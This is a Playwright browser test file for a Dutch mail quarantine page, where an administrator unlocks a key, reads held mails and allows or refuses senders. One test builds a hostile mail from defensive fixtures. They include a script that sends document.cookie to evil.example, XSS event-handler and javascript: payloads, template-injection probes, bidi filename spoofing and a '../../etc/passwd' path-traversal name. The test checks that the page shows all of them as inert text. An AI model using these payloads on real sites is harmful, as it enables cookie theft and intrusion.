"""A beheerder reads what was set aside, in a real browser, and decides; strangers' mails do nothing there."""

import json
from email.message import EmailMessage
from typing import Any

import pytest
from playwright.sync_api import Page, Request, expect

from gateway.demo.config import keep_pair
from gateway.store import audit, cases
from tests.browser.conftest import Axe
from tests.browser.keyboard import tab_to
from tests.browser.site import Site
from tests.browser.watch import Watch, fitting
from tests.invented import PATIENT, make_mail
from tests.story.boardkey import bind

PASSPHRASE = "vier paarse olifanten fluiten zacht"
STRANGER = "invaller@elders.example"
FAST = 600_000
"""The least that the server takes: a test need not wait longer."""


class Desk:
    """A beheerder with a key, at the pages of the quarantine."""

    def __init__(self, site: Site, page: Page) -> None:
        self.site, self.page = site, page
        private = bind(site.place.directory)
        self.user = site.login(page)
        with site.gateway.store.write() as session:
            passphrases = {self.user.id: PASSPHRASE}
            keep_pair(
                session, "beheerders", private, passphrases, now=site.now, by=self.user.id, iterations=FAST
            )

    def aside(self, *mails: EmailMessage) -> list[str]:
        """Mails that are set aside; gives their kenmerken."""
        before = {row["kenmerk"] for row in self.site.json("quarantine", "list")}
        self.site.post(*mails)
        return [
            row["kenmerk"] for row in self.site.json("quarantine", "list") if row["kenmerk"] not in before
        ]

    def go(self, rest: str = "") -> None:
        """To a page."""
        self.page.goto(f"{self.site.url}/quarantaine{rest}")

    def unlock(self) -> None:
        """Give the passphrase."""
        self.page.get_by_label("Uw wachtzin").fill(PASSPHRASE)
        self.page.get_by_role("button", name="Ontgrendelen").click()
        expect(self.page.get_by_text("Uw sleutel is open")).to_be_visible()

    def look(self, reason: str = "Beoordelen of de mail mag worden doorgelaten") -> None:
        """Ask to see the mail."""
        self.page.get_by_label(reason).check()
        self.page.get_by_role("button", name="Bekijk de mail").click()
        expect(self.page.locator("#mail-kop")).to_be_focused()

    def field(self, name: str) -> str:
        """What stands in a field of the mail."""
        return str(self.page.locator(f'[data-veld="{name}"]').inner_text())

    def text(self) -> str:
        """The text of the mail, as it is."""
        return str(self.page.locator("#mail-tekst").evaluate("one => one.textContent"))

    def looks(self, kenmerk: str) -> list[tuple[str, Any]]:
        """Who looked at a mail, and why."""
        with self.site.gateway.store.read() as session:
            events = audit.of_case(session, cases.by_kenmerk(session, kenmerk).id)
        return [(one.actor, json.loads(one.data)) for one in events if one.kind == "quarantine.shown"]


@pytest.fixture
def desk(site: Site, page: Page) -> Desk:
    """A beheerder at 1280 px."""
    return Desk(site, page)


@pytest.fixture
def pocket(site: Site, phone: Page) -> Desk:
    """A beheerder at 360 px."""
    return Desk(site, phone)


@pytest.fixture
def asked(desk: Desk) -> list[Request]:
    """Everything that the browser of the desk asks for."""
    seen: list[Request] = []
    desk.page.on("request", lambda request: seen.append(request))
    return seen


def test_a_mail_is_read_and_its_sender_allowed(desk: Desk, axe: Axe) -> None:
    (kenmerk,) = desk.aside(make_mail(sender=STRANGER))
    desk.go()
    axe(desk.page)
    desk.page.get_by_role("link", name=kenmerk).click()
    expect(desk.page.get_by_role("heading", level=1)).to_contain_text(kenmerk)
    axe(desk.page)
    assert PATIENT.name not in desk.page.content()
    desk.unlock()
    assert desk.looks(kenmerk) == [], "an open key is no look yet"
    desk.look("De praktijk belde hierover")
    axe(desk.page)
    assert PATIENT.name in desk.text()
    assert STRANGER in desk.field("senders")
    assert desk.field("subject") == "aanmelding geldzorgen"
    assert desk.looks(kenmerk) == [(f"user:{desk.user.id}", {"reason": "practice_called"})]
    allow = desk.page.get_by_role("region", name="Afzender toestaan")
    expect(allow.get_by_label("Mailadres of domein")).to_have_value(STRANGER)
    allow.get_by_label("Praktijk", exact=True).select_option(label="Huisartsen Stedenwijk")
    allow.get_by_role("button", name="Toestaan").click()
    expect(desk.page.get_by_role("heading", name="Weet u het zeker?")).to_be_visible()
    axe(desk.page)
    desk.page.get_by_role("button", name="Ja, toestaan en doorlaten").click()
    expect(desk.page.get_by_role("status")).to_contain_text(kenmerk)
    desk.site.tick()
    assert desk.site.json("cases", "show", kenmerk)["state"] == "delivered"
    desk.site.post(make_mail(sender=STRANGER, text=f"Anja Oudekerk, 06-22334455, {PATIENT.wijk}"))
    assert desk.site.json("quarantine", "list") == [], "the next one comes in by itself"
    desk.go("/toegestaan")
    axe(desk.page)
    desk.page.get_by_role("button", name="Intrekken").click()
    axe(desk.page)
    desk.page.get_by_role("button", name="Ja, intrekken").click()
    expect(desk.page.get_by_text("Er is niemand extra toegestaan")).to_be_visible()


def test_a_reload_of_the_question_sends_nothing_again(desk: Desk) -> None:
    (kenmerk,) = desk.aside(make_mail(sender=STRANGER))
    desk.go(f"/{kenmerk}")
    desk.page.get_by_role("button", name="Weigeren…").click()
    expect(desk.page.get_by_role("heading", name="Weet u het zeker?")).to_be_visible()
    desk.page.reload()
    expect(desk.page).to_have_url(f"{desk.site.url}/quarantaine/{kenmerk}")
    expect(desk.page.get_by_role("heading", level=1)).to_contain_text(kenmerk)


def test_by_keyboard_alone_on_a_telephone(pocket: Desk, axe: Axe) -> None:
    (kenmerk,) = pocket.aside(make_mail(proof="dmarc=fail"))
    page = pocket.page
    pocket.go(f"/{kenmerk}")
    tab_to(page, page.get_by_label("Uw wachtzin"))
    page.keyboard.type(PASSPHRASE)
    page.keyboard.press("Enter")
    expect(page.locator("#reden-1")).to_be_focused()
    page.keyboard.press("Space")
    page.keyboard.press("Enter")
    expect(page.locator("#mail-kop")).to_be_focused()
    axe(page)
    expect(page.locator("#mail-opmerkingen")).to_contain_text(
        "niet bewezen dat de mail daar echt vandaan komt"
    )
    expect(page.locator("#doorlaten-praktijk")).to_have_value("filmwijk")
    tab_to(page, page.get_by_role("button", name="Weigeren"))
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Weet u het zeker?")).to_be_visible()
    axe(page)
    tab_to(page, page.get_by_role("button", name="Ja, weigeren en vernietigen"))
    page.keyboard.press("Enter")
    expect(page.get_by_role("status")).to_contain_text("geweigerd")
    axe(page)
    assert pocket.site.json("cases", "show", kenmerk)["state"] == "closed"


def test_when_the_key_is_locked_nothing_of_the_mail_stays(desk: Desk) -> None:
    (kenmerk,) = desk.aside(make_mail(sender=STRANGER))
    desk.go(f"/{kenmerk}")
    desk.unlock()
    desk.look()
    desk.page.get_by_role("button", name="Nu op slot doen").click()
    expect(desk.page.locator("#mail")).to_be_hidden()
    assert PATIENT.name not in desk.page.content()
    expect(desk.page.locator("#afzender")).to_have_value("")
    desk.unlock()
    desk.look()
    assert PATIENT.name in desk.text()
    assert len(desk.looks(kenmerk)) == 2


def test_a_wrong_passphrase_opens_nothing_and_a_moved_mail_says_so(desk: Desk, watch: Watch) -> None:
    (kenmerk,) = desk.aside(make_mail(sender=STRANGER))
    desk.go(f"/{kenmerk}")
    desk.page.get_by_label("Uw wachtzin").fill("iets heel anders dan dat")
    desk.page.get_by_role("button", name="Ontgrendelen").click()
    expect(desk.page.get_by_text("Dat klopt niet")).to_be_visible()
    desk.unlock()
    desk.site.inbeeld("quarantine", "refuse", kenmerk)
    watch.allow(409)
    desk.page.get_by_label("Iets anders").check()
    desk.page.get_by_role("button", name="Bekijk de mail").click()
    expect(desk.page.locator("#bekijken [data-melding]")).to_contain_text("Laad de pagina opnieuw")
    assert desk.looks(kenmerk) == []


EVIL = (
    "<script>document.title='gekaapt';fetch('https://evil.example/?'+document.cookie)</script>"
    "<img src=x onerror=\"document.title='gekaapt'\"><svg/onload=alert(1)>"
    "<iframe src=https://evil.example></iframe><a href='javascript:alert(1)'>klik</a>"
    "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=https://evil.example'>"
    "</div></section></template>{{ 7*7 }}${7*7}"
)
TRICKS = "rekening\u202egpj.exe\u2066\u200b \u0007\u001b[31mrood \U000e0041 https://evil.example/klik"


def evil_mail() -> EmailMessage:
    """Everything that a stranger could try."""
    mail = make_mail(sender=STRANGER, subject=f"{TRICKS} {EVIL} " + "lang" * 900, text=f"{EVIL}\n{TRICKS}\n")
    mail.replace_header("From", f'"{EVIL[:60]} <b>" <{STRANGER}>'.replace("<script>", "&lt;script&gt;"))
    mail.add_alternative(f"<html><body>{EVIL}<p>zichtbaar</p></body></html>", subtype="html")
    mail.add_attachment(b"x", maintype="text", subtype="html", filename=f"{EVIL[:40]}.html")
    mail.add_attachment(b"y", maintype="image", subtype="svg+xml", filename="../../etc/passwd\u202egpj.svg")
    return mail


@pytest.mark.parametrize("html_only", [False, True])
def test_an_evil_mail_is_text_and_nothing_else(desk: Desk, asked: list[Request], html_only: bool) -> None:
    mail = evil_mail()
    if html_only:
        mail.clear_content()
        mail.set_content(f"<html><body>{EVIL}<p>zichtbaar {TRICKS}</p></body></html>", subtype="html")
    (kenmerk,) = desk.aside(mail)
    desk.go(f"/{kenmerk}")
    desk.unlock()
    before = len(asked)
    elements = desk.page.locator("#mail *").count()
    desk.look()
    assert [one.url for one in asked[before:]] == [f"{desk.site.url}/quarantaine/{kenmerk}/openen"]
    expect(desk.page).to_have_title(f"Mail in quarantaine {kenmerk} – InBeeld")
    shown = desk.page.locator("#mail")
    expect(shown.locator("script, img, iframe, a, style, svg, meta, form, b")).to_have_count(0)
    expect(desk.page.locator("body")).to_be_visible()
    for name in ("senders", "subject", "files", "envelope"):
        assert "\u202e" not in desk.field(name)
    assert len(desk.field("subject")) <= 2_200
    assert "⟦U+202E⟧" in desk.field("subject")
    text = desk.text()
    assert "⟦U+202E⟧" in text
    assert not {"\u202e", "\u2066", "\u200b", "\u0007", "\u001b"} & set(text)
    assert "https://evil.example/klik" in text
    assert "49" not in text
    if not html_only:
        assert EVIL in text, "what was written is shown as it was written"
        assert "passwd" in desk.field("files")
    # Items of lists are all that was made.
    expect(shown.locator("*")).to_have_count(elements + shown.locator("li, dd ul").count())
    fitting(desk.page)


def test_another_mails_copy_is_not_shown_as_this_one(desk: Desk) -> None:
    first, second = desk.aside(make_mail(sender=STRANGER), make_mail(sender="ander@elders.example"))
    desk.go(f"/{first}")
    desk.unlock()
    desk.page.route(
        f"**/quarantaine/{first}/openen",
        lambda route: route.continue_(url=f"{desk.site.url}/quarantaine/{second}/openen"),
    )
    desk.page.get_by_label("Iets anders").check()
    desk.page.get_by_role("button", name="Bekijk de mail").click()
    expect(desk.page.locator("#bekijken [data-melding]")).to_contain_text("beschadigd")
    expect(desk.page.locator("#mail")).to_be_hidden()
    assert PATIENT.name not in desk.page.content()


def test_neither_passphrase_nor_text_is_ever_sent(desk: Desk, asked: list[Request]) -> None:
    (kenmerk,) = desk.aside(make_mail(sender=STRANGER))
    desk.go(f"/{kenmerk}")
    desk.unlock()
    desk.look()
    sent = " ".join(f"{one.url} {one.post_data or ''} {one.all_headers()}" for one in asked)
    assert f"/{kenmerk}/openen" in sent
    for secret in (PASSPHRASE, PATIENT.name, PATIENT.number, STRANGER, "geldzorgen"):
        assert secret not in sent
    kept = desk.page.evaluate(
        "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, location.href])"
    )
    assert PATIENT.name not in kept
    assert STRANGER not in kept


def test_without_a_key_the_page_says_what_to_do(site: Site, page: Page, axe: Axe) -> None:
    site.login(page)
    site.post(make_mail(sender=STRANGER))
    page.goto(f"{site.url}/quarantaine")
    expect(page.get_by_text("Er is nog geen sleutel van de beheerders gekoppeld")).to_be_visible()
    page.locator("tbody a").first.click()
    expect(page.get_by_text("inbeeld keys adopt beheerders")).to_be_visible()
    axe(page)


def test_questions_stand_below(desk: Desk, axe: Axe) -> None:
    desk.site.post(make_mail(text=f"Graag contact met {PATIENT.name} in de {PATIENT.wijk}.\n"))
    desk.go()
    table = desk.page.get_by_role("region", name="Vragen aan verwijzers")
    expect(table).to_contain_text("het telefoonnummer")
    expect(table).to_contain_text("Gezondheidscentrum Filmwijk")
    expect(table).to_contain_text("de verwijzer")
    assert PATIENT.name not in desk.page.content()
    axe(desk.page)
